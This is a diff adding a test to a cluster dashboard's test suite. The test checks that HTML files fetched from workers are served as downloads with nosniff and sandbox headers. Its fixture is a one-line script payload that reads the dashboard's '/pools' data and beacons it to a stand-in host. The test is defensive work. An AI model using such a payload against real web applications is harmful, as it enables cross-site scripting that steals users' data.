@@ -154,3 +154,22 @@ def test_a_fetch_whose_bytes_do_not_match_the_workers_sha256_fails_instead_of_su
     finally:
         liar.close()
     assert "the master holds no whole copy" in cluster.master.log()
+
+
+def test_a_fetched_html_file_is_downloaded_by_a_browser_never_rendered_on_the_dashboards_origin(cluster, tmp_path):
+    """A worker's file served from the master's origin: an HTML page among them, opened
+    in the browser that holds the dashboard's token, would run its script as the dashboard."""
+    import urllib.request
+    cluster.start_master()
+    cluster.start_worker("pi1")
+    page = tmp_path / "report.html"
+    page.write_text("<script>fetch('/pools').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>")
+    status, submitted = cluster.api("POST", "/fetch", {"workers": ["pi1"], "path": str(page)})
+    assert status == 202
+    assert cluster.api("GET", "/pool/%s?wait=30" % submitted["id"])[1]["jobs"]["pi1"]["state"] == "succeeded"
+    with urllib.request.urlopen("http://127.0.0.1:%d/pool/%s/files/pi1" % (cluster.api_port, submitted["id"]),
+                                timeout=30) as answer:
+        assert answer.read() == page.read_bytes()
+        assert answer.headers["Content-Disposition"] == "attachment"
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        assert answer.headers["Content-Security-Policy"].startswith("sandbox")
